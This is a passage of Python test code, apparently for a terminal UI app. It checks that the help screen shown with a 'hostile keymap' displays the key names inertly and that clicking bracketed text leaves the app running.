        await until(pilot, lambda: isinstance(app.screen, HelpScreen))
        screen = read_screen(app)
        assert_inert(screen, "help with a hostile keymap")
        for key in keys.values():
            assert key in screen.text
        await click_brackets(pilot, actions, screen, app.screen.query_one(Vertical).region)
        assert app.is_running and app.return_code is None
